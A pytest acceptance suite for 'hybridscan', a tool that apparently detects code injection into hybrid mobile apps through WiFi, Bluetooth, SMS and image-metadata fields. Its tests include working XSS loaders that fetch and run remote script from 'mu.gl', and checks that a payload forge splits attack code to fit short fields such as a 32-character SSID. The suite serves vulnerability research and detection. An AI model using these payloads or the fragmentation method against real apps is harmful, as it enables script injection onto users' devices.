"""End-to-end acceptance checks, one test per criterion.

Each test prints a single ``[PASS]``/``[FAIL]`` line (bypassing output
capture) before asserting, so ``pytest -v`` shows the full scorecard even
when a criterion fails.
"""

from __future__ import annotations

import json
import os
import random
import string
import subprocess
import sys
import time

from hybridscan.analysis import Confidence, Verdict, app_roots, corpus_stats, scan_app
from hybridscan.channels import builtin_channels, get_channel, validate_value
from hybridscan.cli import run
from hybridscan.forge import (
    LimitTooSmall, LoaderStyle, PlanMode, Role, fragment_payload, make_loader, plan_injection, verify_plan,
)
from hybridscan.plugins import (
    PluginCategory, audit_companion_js, build_profile, classify_plugin, plugin_roots, taxonomy_counts,
)
from hybridscan.sinks import Vector, activation_matrix, classify_sink

from conftest import APPS, PLUGINS

Y, N = True, False

# Ground truth transcribed from the activation table: (script tag, img onerror).
ACTIVATION = {
    "document.write()": (Y, Y),
    "appendChild()": (Y, Y),
    "innerHTML/outerHTML": (N, Y),
    "innerText/outerText": (N, N),
    "textContent": (N, N),
    "html()": (Y, Y),
    "append/prepend()": (Y, Y),
    "before/after()": (Y, Y),
    "add()": (Y, Y),
    "replaceAll/replaceWith()": (Y, Y),
    "text()": (N, N),
}

# fields with a hard published limit
BOUNDED_FIELDS = {
    ("WiFi", "SSID"): 32,
    ("Bluetooth", "DeviceName"): 248,
    ("SMS", "MessageBody"): 140,
    ("JPEG", "Model"): 32,
    ("JPEG", "Maker"): 42,
}

# Smallest trigger "<img src onerror=eval(a)>" is 25 characters; below that
# the limit violates fragment_payload's precondition.
MIN_TRIGGER = len("<img src onerror=eval(a)>")
# With two-letter variable names a piece costs 23 characters of markup, and
# the widest ASCII escape (\xHH) is 4, so every printable ASCII input fits
# from 27 on.
ALWAYS_FITS = len('<img src onerror=aa="">') + len("\\x26")


def report(capsys, number: int, ok: bool, detail: str) -> None:
    with capsys.disabled():
        print(f"\n[{'PASS' if ok else 'FAIL'}] criterion {number}: {detail}")


def test_criterion_1_activation_matrix(capsys):
    t0 = time.perf_counter()
    matrix = activation_matrix()
    elapsed = time.perf_counter() - t0
    mismatches = []
    for api, (script_ok, img_ok) in ACTIVATION.items():
        if matrix.get((api, Vector.SCRIPT_TAG)) != script_ok:
            mismatches.append((api, "script"))
        if matrix.get((api, Vector.EVENT_ATTRIBUTE)) != img_ok:
            mismatches.append((api, "img"))
    cells = len(matrix)
    ok = not mismatches and cells == 22 and elapsed < 1.0
    report(capsys, 1, ok, f"activation matrix {22 - len(mismatches)}/22 cells match, {cells} cells emitted, {elapsed:.3f}s")
    assert ok, mismatches


def test_criterion_2_loader_lengths(capsys, tmp_path):
    # oracle: the printed single-line forms, counted here independently
    jquery_printed = "<img src onerror=$.getScript('http://mu.gl')>"
    dynamic_printed = (
        "<img src onerror=d=document;b=d.createElement('script');"
        "d.body.appendChild(b);b.src='http://mu.gl'>"
    )
    script_printed = "<script src=//mu.gl></script>"

    jq = make_loader("http://mu.gl", LoaderStyle.JQUERY_GET_SCRIPT)
    dyn = make_loader("http://mu.gl", LoaderStyle.IMG_ONERROR_DYNAMIC)
    scr = make_loader("//mu.gl", LoaderStyle.SCRIPT_TAG)

    out = tmp_path / "forge.json"
    code = run(["forge", "--url", "//mu.gl", "--style", "script", "--format", "json",
                "--deterministic", "--output", str(out)])
    loader_doc = json.loads(out.read_text())["payload"]["loader"]

    checks = {
        "jquery == 45": jq.markup == jquery_printed and jq.length == 45 == len(jquery_printed),
        "dynamic == 99": dyn.markup == dynamic_printed and dyn.length == 99 == len(dynamic_printed),
        "script computed": scr.markup == script_printed and scr.length == len(script_printed) == 29,
        "report emits computed": code == 0 and loader_doc["length"] == 29,
        "report documents 28": loader_doc.get("published_length") == 28 and "28" in loader_doc.get("note", ""),
    }
    ok = all(checks.values())
    report(capsys, 2, ok, f"jquery={jq.length} dynamic={dyn.length} script={scr.length} "
                          f"(published 28, discrepancy noted); " + ", ".join(k for k, v in checks.items() if not v))
    assert ok, checks


def _random_code(rng: random.Random) -> str:
    n = rng.randint(10, 500)
    return "".join(rng.choice(string.printable) for _ in range(n))


def test_criterion_3_fragmentation(capsys):
    rng = random.Random(20140101)
    wifi = get_channel("WiFi")
    innerhtml = classify_sink("innerHTML")
    t0 = time.perf_counter()
    produced = below_precondition = edge_refusals = 0
    violations: list[str] = []
    plans_verified = 0
    for trial in range(1000):
        code = _random_code(rng)
        limit = rng.randint(20, 250)

        # WiFi TimedSequence plan of the same code at the SSID limit
        plan = plan_injection(fragment_payload(code, 32), wifi)
        if plan.mode is not PlanMode.TIMED_SEQUENCE or not plan.assignments[-1].fragments[-1].is_trigger:
            violations.append(f"trial {trial}: plan order")
        if verify_plan(plan, innerhtml).recovered_code != code:
            violations.append(f"trial {trial}: verify")
        plans_verified += 1

        try:
            frags = fragment_payload(code, limit)
        except LimitTooSmall:
            if limit < MIN_TRIGGER:
                below_precondition += 1
            elif limit < ALWAYS_FITS:
                edge_refusals += 1
            else:
                violations.append(f"trial {trial}: LimitTooSmall at valid limit {limit}")
            continue
        if limit < MIN_TRIGGER:
            violations.append(f"trial {trial}: accepted limit {limit} below the smallest trigger")
        produced += 1
        if any(f.length > limit for f in frags):
            violations.append(f"trial {trial}: fit")
        pieces = [f for f in frags if f.role in (Role.PIECE, Role.DIRECT)]
        chunks = "".join(f.chunk for f in frags if f.role is Role.PIECE)
        if frags[-1].role is Role.DIRECT:
            pass  # unsplit: the direct fragment carries the code itself
        elif chunks != code:
            violations.append(f"trial {trial}: reassembly")
        triggers = [f for f in frags if f.is_trigger]
        if len(triggers) != 1 or triggers[0] is not frags[-1] or frags[-1].index != max(f.index for f in frags):
            violations.append(f"trial {trial}: trigger-last")
        if not pieces:
            violations.append(f"trial {trial}: no carrier fragments")

    elapsed = time.perf_counter() - t0

    loader_frags = fragment_payload("$.getScript('http://mu.gl')", 32)
    n_pieces = sum(1 for f in loader_frags if f.role is Role.PIECE)
    n_trigger = sum(1 for f in loader_frags if f.role is Role.TRIGGER)
    loader_fit = all(f.length <= 32 for f in loader_frags)
    loader_ok = n_pieces >= 4 and n_trigger == 1 and loader_fit

    ok = not violations and loader_ok and elapsed < 30
    report(
        capsys, 3, ok,
        f"{produced} outputs checked, {below_precondition} limits below the {MIN_TRIGGER}-char trigger refused, "
        f"{edge_refusals} refusals at limits {MIN_TRIGGER}-{ALWAYS_FITS - 1}, {plans_verified} WiFi plans verified, "
        f"{len(violations)} violations; mu.gl at 32: {n_pieces} pieces + {n_trigger} trigger "
        f"(>= 4 required), all <= 32: {loader_fit}, {elapsed:.1f}s",
    )
    assert not violations, violations[:5]
    assert loader_fit and n_trigger == 1
    assert n_pieces >= 4, f"the 27-char loader at limit 32 yields {n_pieces} pieces"


def test_criterion_4_table_ii(capsys):
    channels = {c.name: c for c in builtin_channels()}
    problems = []
    for (ch, fld), limit in BOUNDED_FIELDS.items():
        spec = channels[ch].field(fld)
        if spec.max_length != limit or spec.lower_bound_only:
            problems.append(f"{ch}.{fld} limit {spec.max_length}")
        if not validate_value(channels[ch], fld, "A" * limit).ok:
            problems.append(f"{ch}.{fld} rejects {limit}")
        if validate_value(channels[ch], fld, "A" * (limit + 1)).ok:
            problems.append(f"{ch}.{fld} accepts {limit + 1}")
    ok = not problems
    report(capsys, 4, ok, f"{len(BOUNDED_FIELDS)} bounded fields checked at limit and limit+1; {problems or 'all match'}")
    assert ok, problems


def test_criterion_5_case_studies(capsys):
    t0 = time.perf_counter()
    problems = []
    for name in ("bt-showcase", "barcode-rewards"):
        r = scan_app(APPS / name)
        confirmed = [f for f in r.findings if f.confidence is Confidence.CONFIRMED]
        if r.verdict is not Verdict.VULNERABLE:
            problems.append(f"{name}: {r.verdict.value}")
        if not any(f.sink.sink.api_name == "innerHTML/outerHTML" and f.source.external for f in confirmed):
            problems.append(f"{name}: no Confirmed innerHTML finding")
    for name in ("bt-showcase-safe", "barcode-rewards-safe"):
        r = scan_app(APPS / name)
        if r.findings or r.verdict is not Verdict.NOT_VULNERABLE:
            problems.append(f"{name}: {len(r.findings)} findings, {r.verdict.value}")

    roots = app_roots(APPS)
    stats = corpus_stats(roots)
    funnel_ok = stats.reads_channels >= stats.both >= stats.all_three and stats.uses_vulnerable_sinks >= stats.both
    if stats.apps < 10:
        problems.append(f"corpus has {stats.apps} apps")
    if not funnel_ok:
        problems.append("funnel containment")
    elapsed = time.perf_counter() - t0
    ok = not problems and elapsed < 10
    report(capsys, 5, ok,
           f"case studies Vulnerable, twins clean; funnel over {stats.apps} apps: c1={stats.reads_channels} "
           f"c2={stats.uses_vulnerable_sinks} c1&c2={stats.both} all={stats.all_three}; {elapsed:.2f}s "
           f"{problems or ''}")
    assert ok, problems


# companion-JS displays seeded in the plugin fixtures: (plugin dir, file, sink)
SEEDED_DISPLAYS = {
    ("bluetooth-serial-demo", "examples/js/index.js", "innerHTML/outerHTML"),
    ("sms-receiver", "example/index.html", "html()"),
}
LIBRARY_ONLY = ("wifi-wizard-lite",)


def test_criterion_6_plugin_taxonomy(capsys):
    roots = plugin_roots(PLUGINS)
    profiles = [build_profile(r) for r in roots]
    problems = []
    counts = taxonomy_counts(profiles)
    if sum(counts.values()) != len(profiles) or len(profiles) < 10:
        problems.append("partition")
    for p in profiles:
        if (classify_plugin(p) is PluginCategory.NO_DATA) != (not p.returns_data):
            problems.append(f"{p.name}: NoData iff no data")
    found = set()
    false_pos = []
    for root, prof in zip(roots, profiles):
        audit = audit_companion_js(prof)
        for d in audit.vulnerable_displays:
            found.add((root.name, d.file, d.sink_api))
        if root.name in LIBRARY_ONLY and audit.vulnerable_displays:
            false_pos.append(root.name)
    missed = SEEDED_DISPLAYS - found
    if missed:
        problems.append(f"missed {sorted(missed)}")
    if false_pos:
        problems.append(f"false positives {false_pos}")
    ok = not problems
    shape = "/".join(str(counts[c]) for c in PluginCategory)
    report(capsys, 6, ok, f"{len(profiles)} plugins partitioned {shape} (NoData/NonExp/Web/Internal/External); "
                          f"{len(SEEDED_DISPLAYS - missed)}/{len(SEEDED_DISPLAYS)} seeded displays found; "
                          f"{len(false_pos)} library false positives {problems or ''}")
    assert ok, problems


def test_criterion_7_determinism(capsys):
    cmd = [sys.executable, "-m", "hybridscan", "scan", "--corpus", str(APPS), "--deterministic", "--format", "json"]
    runs = [subprocess.run(cmd, capture_output=True, env=dict(os.environ, HYBRIDSCAN_NO_COLOR="1")) for _ in range(2)]
    same = runs[0].stdout == runs[1].stdout and len(runs[0].stdout) > 0
    codes = [r.returncode for r in runs]
    ok = same and codes == [2, 2]
    report(capsys, 7, ok, f"two scans of the fixture corpus byte-identical: {same} "
                          f"({len(runs[0].stdout)} bytes), exit codes {codes}")
    assert ok, runs[0].stderr.decode()
